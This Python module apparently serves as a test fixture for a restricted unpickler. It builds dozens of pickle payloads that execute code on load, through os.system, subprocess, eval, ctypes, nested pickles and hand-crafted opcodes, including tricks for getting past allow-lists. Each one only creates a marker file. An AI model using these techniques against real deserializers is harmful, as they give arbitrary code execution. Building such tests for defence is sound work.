"""Pickles that do something when they are loaded: each makes the file it is given the name of.

In the order of the ways there are to have a pickle call something, from plain to devious.
"""

from __future__ import annotations

import code
import copyreg
import functools
import importlib
import io
import itertools
import logging
import marshal
import operator
import os
import pathlib
import pickle
import runpy
import shlex
import shutil
import subprocess
import time
import timeit
from collections.abc import Callable
from pathlib import Path
from typing import Any

from whoosh.util.loading import find_object


class Call:
    """Pickled as a call; so are its function and arguments where they are calls."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self._call

    def __call__(self) -> None:
        """For the pickler, which wants functions to be callable."""


class WithState(Call):
    """Pickled as a call and a state to be set on what it returns."""

    def __init__(self, state: object, function: Callable[..., object], *arguments: object) -> None:
        super().__init__(function, *arguments)
        self._state = state

    def __reduce__(self) -> Any:
        return *super().__reduce__(), self._state


def touch(marker: str) -> str:
    return f"touch {shlex.quote(marker)}"


def source(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def text(string: str) -> bytes:
    """The opcode for a text, of protocol 0."""
    return b"V" + string.encode() + b"\n"


def name(string: str) -> bytes:
    """The opcode for a short text, of protocol 4."""
    return b"\x8c" + bytes([len(string)]) + string.encode()


RECONSTRUCT = vars(copyreg)["_reconstructor"]
TOUCH = shutil.which("touch") or "touch"
CONSUMED = b"cbuiltins\nmap\n(cposix\nsystem\n(%blt"  # map and its arguments, for NEWOBJ
PAYLOADS: dict[str, Callable[[str], object]] = {
    "os.system": lambda marker: Call(os.system, touch(marker)),
    "os.system, protocol 0": lambda marker: pickle.dumps(Call(os.system, touch(marker)), 0),
    "os.system, protocol 2": lambda marker: pickle.dumps(Call(os.system, touch(marker)), 2),
    "os.system, protocol 5": lambda marker: pickle.dumps(Call(os.system, touch(marker)), 5),
    "os.popen": lambda marker: Call(list, Call(os.popen, touch(marker))),
    "os.posix_spawn": lambda m: Call(os.waitpid, Call(os.posix_spawn, TOUCH, ["touch", m], {}), 0),
    "os.mkdir": lambda marker: Call(os.mkdir, marker),
    "os.mkdir by a plain name": lambda marker: pickle.dumps(Call(os.mkdir, Path(marker).name), 4),
    "os.symlink": lambda marker: Call(os.symlink, os.devnull, marker),
    "subprocess.Popen": lambda m: Call(subprocess.Popen.wait, Call(subprocess.Popen, [TOUCH, m])),
    "subprocess.run": lambda marker: Call(subprocess.run, [TOUCH, marker]),
    "subprocess.call": lambda marker: Call(subprocess.call, [TOUCH, marker]),
    "subprocess.check_output": lambda marker: Call(subprocess.check_output, [TOUCH, marker]),
    "subprocess.getoutput": lambda marker: Call(subprocess.getoutput, touch(marker)),
    "eval": lambda marker: Call(eval, source(marker)),
    "exec": lambda marker: Call(exec, source(marker)),
    "exec of compiled": lambda marker: Call(exec, Call(compile, source(marker), "x", "exec")),
    "__import__, getattr": lambda m: Call(Call(getattr, Call(__import__, "os"), "system"), touch(m)),
    "import_module, getattr": lambda m: Call(Call(getattr, Call(importlib.import_module, "posix"), "system"), touch(m)),
    "attrgetter": lambda m: Call(Call(Call(operator.attrgetter, "system"), Call(__import__, "os")), touch(m)),
    "methodcaller": lambda marker: Call(Call(operator.methodcaller, "touch"), Call(Path, marker)),
    "operator.call": lambda marker: Call(operator.call, os.system, touch(marker)),
    "partial": lambda marker: Call(Call(functools.partial, os.system, touch(marker))),
    "partial by its state": lambda m: Call(WithState((os.system, (touch(m),), {}, None), functools.partial, print)),
    "reduce": lambda marker: Call(functools.reduce, open, [marker, "w"]),
    "map": lambda marker: Call(list, Call(map, os.system, [touch(marker)])),
    "filter": lambda marker: Call(list, Call(filter, os.system, [touch(marker)])),
    "starmap": lambda marker: Call(list, Call(itertools.starmap, os.system, [(touch(marker),)])),
    "open": lambda marker: Call(open, marker, "w"),
    "FileIO": lambda marker: Call(io.FileIO, marker, "w"),
    "Path.touch": lambda marker: Call(pathlib.Path.touch, Call(Path, marker)),
    "FileHandler": lambda marker: Call(logging.FileHandler, marker),
    "copyfile": lambda marker: Call(shutil.copyfile, __file__, marker),
    "timeit": lambda m: Call(timeit.timeit, source(m), "pass", time.perf_counter, 1),
    "runpy": lambda m: Call(runpy._run_code, Call(compile, source(m), "x", "exec"), {}),  # type: ignore[attr-defined]
    "InteractiveInterpreter": lambda m: Call(
        code.InteractiveInterpreter.runsource, Call(code.InteractiveInterpreter), source(m)
    ),
    "marshalled function": lambda m: Call(
        Call(
            Call(getattr, Call(__import__, "types"), "FunctionType"),
            Call(marshal.loads, marshal.dumps(compile(source(m), "x", "exec"))),
            {},
        )
    ),
    "ctypes": lambda m: Call(
        Call(getattr, Call(Call(getattr, Call(__import__, "ctypes"), "CDLL"), None), "system"), touch(m).encode()
    ),
    "_reconstructor": lambda m: Call(RECONSTRUCT, tuple, tuple, Call(map, os.system, [touch(m)])),
    "nested pickle": lambda m: Call(pickle.loads, pickle.dumps(Call(os.system, touch(m)))),
    "nested Unpickler": lambda m: Call(
        pickle.Unpickler.load, Call(pickle.Unpickler, Call(io.BytesIO, pickle.dumps(Call(os.system, touch(m)))))
    ),
    "Whoosh's find_object": lambda marker: Call(Call(find_object, "posix.system"), touch(marker)),
    "deep in a structure": lambda marker: [1, {"fieldmap": {"text": [(Call(os.system, touch(marker)),)]}}],
    "GLOBAL": lambda marker: b"cposix\nsystem\n(" + text(touch(marker)) + b"tR.",
    "INST": lambda marker: b"(" + text(touch(marker)) + b"iposix\nsystem\n.",
    "OBJ": lambda marker: b"(cbuiltins\nlist\n" + CONSUMED % text(touch(marker)) + b"Ro.",
    "NEWOBJ": lambda marker: b"\x80\x02cbuiltins\ntuple\n" + CONSUMED % text(touch(marker)) + b"\x81\x85\x81.",
    "NEWOBJ_EX": lambda m: b"\x80\x04cbuiltins\ntuple\n" + CONSUMED % text(touch(m)) + b"}\x92\x85}\x92.",
    "memo": lambda marker: b"\x80\x02cposix\nsystem\nq\x070h\x07(" + text(touch(marker)) + b"tR.",
    "dotted name": lambda m: b"\x80\x04" + name("shutil") + name("os.system") + b"\x93" + name(touch(m)) + b"\x85R.",
    "dotted name in an allowed module": lambda m: (
        b"\x80\x04" + name("whoosh.codec.whoosh3") + name("compound.os.system") + b"\x93" + name(touch(m)) + b"\x85R."
    ),
    "extension registry": lambda marker: b"\x80\x02\x82\xf0(" + text(touch(marker)) + b"tR.",
    "extension registry, 4 bytes": lambda m: b"\x80\x02\x84\xf0\0\0\0(" + text(touch(m)) + b"tR.",
}


def pickled(payload: object) -> bytes:
    return payload if isinstance(payload, bytes) else pickle.dumps(payload)
